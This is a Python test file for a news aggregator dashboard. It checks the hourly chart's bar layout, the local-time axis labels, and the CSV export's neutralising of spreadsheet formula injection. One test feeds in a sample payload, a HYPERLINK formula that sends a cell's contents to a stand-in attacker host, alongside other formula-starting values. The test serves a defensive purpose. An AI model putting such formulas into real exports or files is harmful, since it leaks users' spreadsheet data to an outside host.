"""What the dashboard draws, as plain data: the hourly chart's geometry, the CSV export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from zoneinfo import ZoneInfo

from aggregator.models import Cluster, Entry
from aggregator.store.dashboard import HourRow
from aggregator.web.present import chart, matrix, matrix_csv

UNTIL = datetime(2026, 3, 2, 12, 40, tzinfo=UTC)
BERLIN = ZoneInfo("Europe/Berlin")


def test_every_hour_of_the_range_has_its_place() -> None:
    busy = [
        HourRow(datetime(2026, 3, 2, 9, tzinfo=UTC), 6, 2),
        HourRow(UNTIL.replace(minute=0), 3, 3),
    ]
    drawn = chart(busy, UNTIL - timedelta(hours=24), UNTIL, UTC)
    assert len(drawn.bars) == 25  # 11:00 yesterday to 12:00 today
    assert [b.row.hour for b in drawn.bars][:2] == [
        datetime(2026, 3, 1, 12, tzinfo=UTC),
        datetime(2026, 3, 1, 13, tzinfo=UTC),
    ]
    quiet = [b for b in drawn.bars if b.row.entries == 0]
    assert len(quiet) == 23 and all(b.entries_height == 0 for b in quiet)
    steps = {round(b.x - a.x, 1) for a, b in pairwise(drawn.bars)}
    assert steps == {round(720 / 25, 1)}  # evenly spaced: the axis is time
    nine = next(b for b in drawn.bars if b.row.hour.hour == 9)
    assert nine.entries_height == drawn.height and nine.stories_height == round(drawn.height / 3, 1)
    assert drawn.peak == 6


def test_axis_labels_local_hours_and_dates_over_several_days() -> None:
    day = chart([], UNTIL - timedelta(hours=24), UNTIL, BERLIN)
    assert [b.label for b in day.bars if b.label] == ["18:00", "00:00", "06:00", "12:00"]
    days = chart([], UNTIL - timedelta(hours=72), UNTIL, BERLIN)
    labels = [b.label for b in days.bars if b.label]
    assert "28.02." in labels and "01.03." in labels and "12:00" in labels
    assert len(labels) <= 8


def _entry(number: int, outlet: str, title: str) -> Entry:
    published = UNTIL - timedelta(minutes=number)
    return Entry(f"g{number}", None, None, title, "", published, outlet=outlet, id=number)


def test_csv_cells_from_feeds_never_start_a_formula() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    clusters = [
        Cluster(1, [_entry(1, evil, "\t=1+2 Sturmtief"), _entry(2, "\rcr.de", "@SUM(A1)")]),
        Cluster(3, [_entry(3, "+plus.de", "-2 Grad"), _entry(4, "tab\t.de", "Ruhig")]),
    ]
    rows = list(csv.reader(io.StringIO(matrix_csv(matrix(clusters)), newline="")))
    text = [cell for row in rows for cell in row if cell and not cell[0].isdigit()]
    assert len(text) == 3 + 4 + 2  # the header's names and outlets, the two titles
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text)
    assert f"'{evil}" in rows[0] and "'\rcr.de" in rows[0] and "tab\t.de" in rows[0]
